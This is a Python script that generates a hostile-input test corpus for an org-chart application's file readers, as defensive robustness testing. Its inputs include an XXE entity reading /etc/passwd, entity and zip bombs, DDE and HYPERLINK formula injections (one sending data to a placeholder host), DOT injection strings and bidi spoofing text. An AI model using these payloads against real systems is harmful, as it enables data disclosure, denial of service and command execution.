"""Writes the hostile-input corpus: damaged, huge, newer, hostile and odd
files in every format OrgChart Builder reads (`.orgchart`, `.xlsx`, `.csv`,
outline `.txt`, `.graphml`).

Every file is made here, the text ones too, so the corpus can be rebuilt
and read as code; the files themselves are kept in git beside this script
(all small: the zip bomb is a few kilobytes that declare 640 MiB).
`tests/io/test_corpus.py` says what each file must give.

Run it from the repository: `python -m tests.corpus.make_corpus`.
"""

from __future__ import annotations

import csv
import io
import json
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

HERE = Path(__file__).parent
#: A fixed time in every zip, so the files do not change when rebuilt.
_ZIP_TIME = (2024, 1, 1, 0, 0, 0)


# --------------------------------------------------------------------------
# .orgchart


def chart(**changes: object) -> dict:
    """A small valid chart as JSON values, with some fields replaced."""
    doc = {
        "format": "orgchart", "version": 1, "requires": "0.1.0",
        "title": {"zh-Hant": "測試", "en": "Test"}, "languages": ["zh-Hant", "en"],
        "roles": [{"code": "R", "name": "Responsible", "color": "#c0392b", "unique": False}],
        "tiers": [{"id": "t1", "name": {"zh-Hant": "中央", "en": "Centre"}, "color": "#1f5f99"},
                  {"id": "t2", "name": {"zh-Hant": "省", "en": "Province"}, "color": "#2e7d4f"}],
        "units": [{"id": "top", "name": {"zh-Hant": "中央", "en": "Centre"}, "tier": "t1",
                   "parent": None},
                  {"id": "p1", "name": {"zh-Hant": "甲省", "en": "Province A"}, "tier": "t2",
                   "parent": "top", "people": [{"name": "王", "title": "Secretary"}]}],
        "duties": [{"id": "d1", "text": "Set policy", "assign": {"t1": "R"}}],
        "links": [],
    }
    doc.update(changes)
    return doc


def text(doc: dict) -> bytes:
    return json.dumps(doc, ensure_ascii=False, indent=2).encode("utf-8")


def names(*values: str) -> dict:
    """A chart whose second unit and duty carry the given names."""
    doc = chart()
    doc["units"][1]["name"] = {"en": values[0], "zh-Hant": values[-1]}
    doc["units"][1]["notes"] = " | ".join(values)
    doc["units"][1]["people"] = [{"name": v, "title": v} for v in values]
    doc["duties"][0]["text"] = values[0]
    doc["title"] = {"en": values[-1], "zh-Hant": "測試"}
    return doc


HOSTILE_DOT = ['"]; node [image="/etc/passwd" shapefile="/etc/shadow"]; x [label="',
               "<<B>bold</B>>", "\\N \\G \\L", "</TD></TR></TABLE>>]; evil [URL=\"javascript:x\"",
               "a\\\"b", "-- -> {rank=same}", "]"]
FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1,"click")', "+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1,2)", "\t=1+1", "=1+1"]
BIDI = ["\u202eevil\u202c.exe", "\u200bzero\u200cwidth\u200djoin\ufeff", "\u2066iso\u2069",
        "مرحبا \u202bembedded\u202c", "a\u2028line\u2029para"]


def _nested(depth: int) -> bytes:
    return b'{"format": "orgchart", "version": 1, "tiers": ' + b"[" * depth + b"]" * depth + b"}"


def _with_raw(field: str, raw: str) -> bytes:
    """A chart whose `field` value is the raw JSON text `raw`."""
    doc = text(chart(**{field: "@@"}))
    return doc.replace(b'"@@"', raw.encode("ascii"))


def _cut(data: bytes, fraction: float) -> bytes:
    return data[: int(len(data) * fraction)]


def _png() -> bytes:
    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    chunk = struct.pack(">I", len(ihdr)) + b"IHDR" + ihdr
    return b"\x89PNG\r\n\x1a\n" + chunk + struct.pack(">I", zlib.crc32(b"IHDR" + ihdr))


def _cycle() -> dict:
    doc = chart()
    doc["tiers"].append({"id": "t3", "name": "County"})
    doc["units"] += [{"id": "a", "name": "A", "tier": "t2", "parent": "b"},
                     {"id": "b", "name": "B", "tier": "t3", "parent": "a"}]
    return doc


def _surrogates() -> bytes:
    # JSON may spell a lone surrogate as an escape; Python's json reads it
    # into a string that no UTF-8 writer can write.
    return text(names("lone @@", "中@@文")).replace(b"@@", b"\\ud800\\udc00\\udfff\\ud83d")


def _controls() -> bytes:
    return text(names("nul @@ bell \u0007 esc \u001b del \u007f", "控\u0001制"))\
        .replace(b"@@", b"\\u0000")


ORGCHART: dict[str, Callable[[], bytes]] = {
    "empty.orgchart": lambda: b"",
    "whitespace.orgchart": lambda: b" \n\t\r\n  ",
    "nul-filled.orgchart": lambda: b"\x00" * 4096,
    "cut-off.orgchart": lambda: _cut(text(chart()), 0.6),
    "cut-mid-character.orgchart": lambda: text(chart()).split("甲省".encode())[0]
    + "甲".encode()[:2],
    "png-image.orgchart": _png,
    "workbook-renamed.orgchart": lambda: xlsx(sheet([["ID", "Name"], ["1", "A"]])),
    "html-page.orgchart": lambda: b"<!DOCTYPE html><html><body>Not found</body></html>",
    "latin1.orgchart": lambda: text(chart(title="Caf@")).replace(b"Caf@", b"Caf\xe9"),
    "utf16-bom.orgchart": lambda: text(chart()).decode("utf-8").encode("utf-16"),
    "utf16-be-no-bom.orgchart": lambda: text(chart()).decode("utf-8").encode("utf-16-be"),
    "utf8-bom.orgchart": lambda: b"\xef\xbb\xbf" + text(chart()),
    "utf32-bom.orgchart": lambda: text(chart()).decode("utf-8").encode("utf-32"),
    "bad-utf16.orgchart": lambda: b"\xff\xfe" + text(chart())[:-1],
    "nested-100000.orgchart": lambda: _nested(100_000),
    "nan.orgchart": lambda: _with_raw("title", "NaN"),
    "infinity.orgchart": lambda: _with_raw("title", "-Infinity"),
    "1e400.orgchart": lambda: _with_raw("title", "1e400"),
    "5000-digits.orgchart": lambda: _with_raw("version", "9" * 5000),
    "duplicate-keys.orgchart": lambda: text(chart()).replace(
        b'"title"', b'"units": [],\n  "title"', 1),
    "duplicate-ids.orgchart": lambda: text(chart(duties=[
        {"id": "p1", "text": "clash", "assign": {}}])),
    "duplicate-role-codes.orgchart": lambda: text(chart(roles=[
        {"code": "R", "name": "x"}, {"code": "R", "name": "y"}])),
    "dangling-parent.orgchart": lambda: text(chart(units=[
        {"id": "top", "name": "Top", "tier": "t1", "parent": "nobody"}])),
    "dangling-tier.orgchart": lambda: text(chart(units=[
        {"id": "top", "name": "Top", "tier": "t9"}])),
    "dangling-assignment.orgchart": lambda: text(chart(duties=[
        {"id": "d1", "text": "x", "assign": {"t1": "Q"}}])),
    "dangling-link.orgchart": lambda: text(chart(links=[
        {"id": "k1", "source": "top", "target": "gone"}])),
    "newer-version.orgchart": lambda: text(chart(version=7, requires="9.0.0")),
    "not-a-chart.orgchart": lambda: b'{"name": "a JSON file", "items": [1, 2, 3]}',
    "json-array.orgchart": lambda: b"[1, 2, 3]",
    "wrong-types.orgchart": lambda: text(chart(units={"top": "Centre"})),
    "missing-tiers.orgchart": lambda: text({k: v for k, v in chart().items() if k != "tiers"}),
    "bad-colour.orgchart": lambda: text(chart(tiers=[
        {"id": "t1", "name": "x", "color": "url(javascript:alert(1))"}])),
    "cycle.orgchart": lambda: text(_cycle()),
    "lone-surrogates.orgchart": _surrogates,
    "control-characters.orgchart": _controls,
    "rtl-zero-width.orgchart": lambda: text(names(*BIDI)),
    "formula-names.orgchart": lambda: text(names(*FORMULAS)),
    "dot-injection.orgchart": lambda: text(names(*HOSTILE_DOT)),
}


# --------------------------------------------------------------------------
# .xlsx: small workbooks written by hand (deterministic, no openpyxl)

_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.spreadsheetml.sheet.main+xml"/>{sheets}</Types>')
_SHEET_TYPE = ('<Override PartName="/xl/worksheets/sheet{n}.xml" ContentType="application/'
               'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>')
_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
         '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
         'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
_WORKBOOK = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
             '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
             'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
             '<sheets>{sheets}</sheets></workbook>')
_WB_SHEET = '<sheet name="{name}" sheetId="{n}" {state}r:id="rId{n}"/>'
_WB_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            'relationships">{rels}</Relationships>')
_WB_REL = ('<Relationship Id="rId{n}" Type="http://schemas.openxmlformats.org/officeDocument/'
           '2006/relationships/worksheet" Target="worksheets/sheet{n}.xml"/>')
_SHEET = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{prolog}'
          '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
          '<dimension ref="{ref}"/><sheetData>{rows}</sheetData></worksheet>')


def _column(n: int) -> str:
    letters = ""
    while n:
        n, rest = divmod(n - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def _escape(value: str) -> str:
    return value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def sheet(rows: list[list[str]], extra: str = "", prolog: str = "", ref: str = "") -> str:
    """A worksheet of inline-string cells; `extra` is raw XML for more rows."""
    out = []
    for r, values in enumerate(rows, 1):
        cells = "".join(f'<c r="{_column(c)}{r}" t="inlineStr"><is><t>{_escape(v)}</t></is></c>'
                        for c, v in enumerate(values, 1))
        out.append(f'<row r="{r}">{cells}</row>')
    width = max((len(r) for r in rows), default=1)
    return _SHEET.format(prolog=prolog, ref=ref or f"A1:{_column(width)}{max(len(rows), 1)}",
                         rows="".join(out) + extra)


def xlsx(*sheets: str, names: tuple[str, ...] = (), hidden: tuple[str, ...] = ()) -> bytes:
    """A minimal workbook holding the given worksheet XML parts."""
    titles = list(names) or [f"Sheet{n}" for n in range(1, len(sheets) + 1)]
    parts = {
        "[Content_Types].xml": _CONTENT_TYPES.format(sheets="".join(
            _SHEET_TYPE.format(n=n) for n in range(1, len(sheets) + 1))),
        "_rels/.rels": _RELS,
        "xl/workbook.xml": _WORKBOOK.format(sheets="".join(
            _WB_SHEET.format(name=t, n=n, state='state="veryHidden" ' if t in hidden else "")
            for n, t in enumerate(titles, 1))),
        "xl/_rels/workbook.xml.rels": _WB_RELS.format(rels="".join(
            _WB_REL.format(n=n) for n in range(1, len(sheets) + 1))),
    }
    for n, xml in enumerate(sheets, 1):
        parts[f"xl/worksheets/sheet{n}.xml"] = xml
    return zipped(parts)


def zipped(parts: dict[str, str | bytes], flag_bits: int = 0) -> bytes:
    """A zip of the parts; `flag_bits` are set on every entry afterwards
    (zipfile resets them while writing), e.g. 1 for "encrypted"."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            info = zipfile.ZipInfo(name, _ZIP_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    data = bytearray(buffer.getvalue())
    if flag_bits:
        archive = zipfile.ZipFile(io.BytesIO(bytes(data)))
        for entry in archive.infolist():
            at = entry.header_offset + 6
            data[at:at + 2] = struct.pack("<H", entry.flag_bits | flag_bits)
        at = archive.start_dir
        while data[at:at + 4] == b"PK\x01\x02":
            flags, = struct.unpack("<H", data[at + 8:at + 10])
            data[at + 8:at + 10] = struct.pack("<H", flags | flag_bits)
            name_length, extra, comment = struct.unpack("<HHH", data[at + 28:at + 34])
            at += 46 + name_length + extra + comment
    return bytes(data)


PEOPLE = [["ID", "Name", "Reports To", "Title"], ["1", "Board", "", "Chair"],
          ["2", "Office", "1", "Head"]]

_LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">'
           + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
                     for i in range(1, 10))
           + "]>\n")
_XXE = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'


def _entity_sheet(prolog: str, entity: str) -> str:
    return sheet(PEOPLE, prolog=prolog).replace("<t>Board</t>", f"<t>{entity}</t>")


def _overlapping_bomb() -> bytes:
    """One deflated part of 16 MiB of zeros, listed 40 times in the central
    directory under different names: 640 MiB declared, 17 KB on disk (the
    overlapping-entries bomb of D. Fifield, "A better zip bomb", 2019)."""
    payload = b"<" * (16 * 2**20)
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = squeeze.compress(payload) + squeeze.flush()
    crc, name = zlib.crc32(payload), b"xl/worksheets/sheet1.xml"
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x5821, crc, len(data),
                        len(payload), len(name), 0) + name + data
    names = [b"[Content_Types].xml", b"_rels/.rels", b"xl/workbook.xml",
             *(f"xl/worksheets/sheet{i}.xml".encode() for i in range(1, 38))]
    central = b"".join(
        struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x5821, crc, len(data),
                    len(payload), len(n), 0, 0, 0, 0, 0, 0) + n for n in names)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(names), len(names), len(central),
                      len(local), 0)
    return local + central + end


def _lying_sizes() -> bytes:
    """A workbook whose sheet says it unpacks to 2 KB but holds 8 MiB: the
    reader must stop at the declared size (and then find the CRC wrong)."""
    data = bytearray(xlsx(sheet(PEOPLE, extra="<!--" + "x" * (8 * 2**20) + "-->")))
    archive = zipfile.ZipFile(io.BytesIO(bytes(data)))
    entry = archive.getinfo("xl/worksheets/sheet1.xml")
    lie = struct.pack("<I", 2048)
    data[entry.header_offset + 22:entry.header_offset + 26] = lie  # the local header
    at = archive.start_dir
    while data[at:at + 4] == b"PK\x01\x02":  # the central directory entries
        name_length, extra, comment = struct.unpack("<HHH", data[at + 28:at + 34])
        if data[at + 46:at + 46 + name_length] == entry.filename.encode():
            data[at + 24:at + 28] = lie
        at += 46 + name_length + extra + comment
    return bytes(data)


def _ole2() -> bytes:
    """The start of a compound document, as Excel 97-2003 writes .xls files."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + b"\xfe\xff" * 256


def _truncated() -> bytes:
    whole = xlsx(sheet(PEOPLE * 40))
    return whole[: len(whole) // 2]


def _matrix_workbook(mark: str, version: str, piece: str) -> bytes:
    data = sheet([[mark, version], ["matrix sheet", "Duty matrix"], ["chart", piece]])
    return xlsx(sheet([["Duties"]]), data, names=("Duty matrix", "_orgchart"),
                hidden=("_orgchart",))


XLSX: dict[str, Callable[[], bytes]] = {
    "empty.xlsx": lambda: b"",
    "entity-bomb.xlsx": lambda: xlsx(_entity_sheet(_LAUGHS, "&lol9;")),
    "external-entity.xlsx": lambda: xlsx(_entity_sheet(_XXE, "&xxe;")),
    "entity-bomb-utf16.xlsx": lambda: zipped({
        "[Content_Types].xml": _CONTENT_TYPES.format(sheets=_SHEET_TYPE.format(n=1)),
        "xl/workbook.xml": _WORKBOOK.format(sheets=""),
        "xl/worksheets/sheet1.xml": _entity_sheet(_LAUGHS, "&lol9;")
        .replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")}),
    "zip-bomb.xlsx": _overlapping_bomb,
    "zip-bomb-lying-sizes.xlsx": _lying_sizes,
    "cell-at-XFD1048576.xlsx": lambda: xlsx(sheet(
        PEOPLE, extra='<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is>'
                      '</c></row>', ref="A1:XFD1048576")),
    "legacy.xls": lambda: _ole2(),
    "xls-renamed.xlsx": lambda: _ole2(),
    "csv-renamed.xlsx": lambda: b"ID,Name,Reports To\n1,Board,\n2,Office,1\n",
    "html-renamed.xlsx": lambda: b"<html><body><table><tr><td>1</td></tr></table></body></html>",
    "truncated.xlsx": _truncated,
    "encrypted.xlsx": lambda: zipped({"xl/workbook.xml": _WORKBOOK.format(sheets=""),
                                      "EncryptedPackage": b"\x00" * 64}, flag_bits=1),
    "opendocument.xlsx": lambda: zipped({"mimetype": "application/vnd.oasis.opendocument."
                                                     "spreadsheet", "content.xml": "<x/>"}),
    "word-document.xlsx": lambda: zipped({"word/document.xml": "<w:document/>"}),
    "plain-zip.xlsx": lambda: zipped({"readme.txt": "hello"}),
    "broken-sheet-xml.xlsx": lambda: xlsx(sheet(PEOPLE).replace("</sheetData>", "<row")),
    "no-names-column.xlsx": lambda: xlsx(sheet([["Colour", "Size"], ["red", "9"]])),
    "matrix-newer-layout.xlsx": lambda: _matrix_workbook("orgchart-workbook", "99", "{}"),
    "matrix-damaged-data.xlsx": lambda: _matrix_workbook(
        "orgchart-workbook", "1", text(chart()).decode("utf-8")[:300]),
}


# --------------------------------------------------------------------------
# .csv, outline .txt, .graphml

def csv_text(header: list[str], rows: list[list[str]]) -> bytes:
    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator="\r\n").writerows([header, *rows])
    return buffer.getvalue().encode("utf-8")


CSV: dict[str, Callable[[], bytes]] = {
    "empty.csv": lambda: b"",
    "blank-lines.csv": lambda: b"\r\n\r\n   \r\n",
    "nul-filled.csv": lambda: b"\x00" * 2048,
    "xls-renamed.csv": lambda: _ole2(),
    "zip-bomb-renamed.csv": _overlapping_bomb,
    "no-names-column.csv": lambda: b"Colour,Size\nred,9\nblue,7\n",
    "not-utf8-nor-gb18030.csv": lambda: b"ID,Name\n1,\x80\xff\xfe\n",
    "huge-field.csv": lambda: b'ID,Name\n1,"' + b"x" * 200_000 + b'"\n',
    "bad-utf16.csv": lambda: b"\xff\xfe" + "ID,Name\n".encode("utf-16-le") + b"\x00",
    "formula-names.csv": lambda: csv_text(["ID", "Name", "Reports To", "Title"], [
        [str(i), v, str(i - 1) if i > 1 else "", v] for i, v in enumerate(FORMULAS, 1)]),
    "cycle.csv": lambda: b"ID,Name,Reports To\n1,A,3\n2,B,1\n3,C,2\n",
    "rtl-zero-width.csv": lambda: csv_text(["ID", "Name", "Reports To"], [
        [str(i), v, str(i - 1) if i > 1 else ""] for i, v in enumerate(BIDI, 1)]),
}

OUTLINE: dict[str, Callable[[], bytes]] = {
    "empty.txt": lambda: b"",
    "blank-lines.txt": lambda: b"\n\n  \t\n\n",
    "binary.txt": lambda: _png() + b"\x00" * 64,
    "zip-renamed.txt": lambda: xlsx(sheet(PEOPLE)),
    "bad-utf16.txt": lambda: b"\xfe\xff" + "Top\n\tA\n".encode("utf-16-be") + b"\x00",
    "not-utf8-nor-gb18030.txt": lambda: b"Top\n\t\x80\xff\n",
    "hostile-names.txt": lambda: ("\n".join(
        ["Top", *(f"\t{v}" for v in FORMULAS + HOSTILE_DOT + BIDI)]) + "\n").encode("utf-8"),
}


def graphml(body: str, keys: str = "", prolog: str = "") -> bytes:
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n{prolog}'
            '<graphml xmlns="http://graphml.graphdrawing.org/xmlns">'
            f'{keys}<graph edgedefault="directed">{body}</graph></graphml>').encode()


_LEVEL_KEY = '<key id="level" for="node" attr.name="level" attr.type="string"/>'
_INT_KEY = '<key id="n" for="node" attr.name="n" attr.type="int"/>'

GRAPHML: dict[str, Callable[[], bytes]] = {
    "empty.graphml": lambda: b"",
    "entity-bomb.graphml": lambda: graphml('<node id="&lol9;"/>', prolog=_LAUGHS),
    "external-entity.graphml": lambda: graphml('<node id="&xxe;"/>', prolog=_XXE),
    "not-xml.graphml": lambda: b"ID,Name\n1,A\n",
    "not-graphml.graphml": lambda: b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/'
                                   b'svg"><rect/></svg>',
    "no-nodes.graphml": lambda: graphml(""),
    "truncated.graphml": lambda: graphml('<node id="a"/><node id="b"/><edge source="a" '
                                         'target="b"/>')[:-30],
    "bad-typed-data.graphml": lambda: graphml('<node id="a"><data key="n">many</data></node>',
                                              _INT_KEY),
    "infinite-level.graphml": lambda: graphml(
        '<node id="a"><data key="level">1e400</data></node><node id="b"><data key="level">'
        'inf</data></node><edge source="a" target="b"/>', _LEVEL_KEY),
    "edge-to-nowhere.graphml": lambda: graphml('<node id="a"/><edge source="a" target="zz"/>'),
    "cycle.graphml": lambda: graphml('<node id="a"/><node id="b"/><node id="c"/>'
                                     '<edge source="a" target="b"/><edge source="b" target="c"/>'
                                     '<edge source="c" target="a"/>'),
    "hostile-names.graphml": lambda: graphml(
        "".join(f'<node id="n{i}"><data key="name">{_escape(v)}</data></node>'
                for i, v in enumerate(FORMULAS + HOSTILE_DOT + BIDI))
        + "".join(f'<edge source="n0" target="n{i}"/>'
                  for i in range(1, len(FORMULAS + HOSTILE_DOT + BIDI))),
        '<key id="name" for="node" attr.name="name" attr.type="string"/>'),
}

ALL: dict[str, Callable[[], bytes]] = {**ORGCHART, **XLSX, **CSV, **OUTLINE, **GRAPHML}


def main() -> None:
    for name, make in ALL.items():
        (HERE / name).write_bytes(make())
    print(f"{len(ALL)} files in {HERE}")


if __name__ == "__main__":
    main()
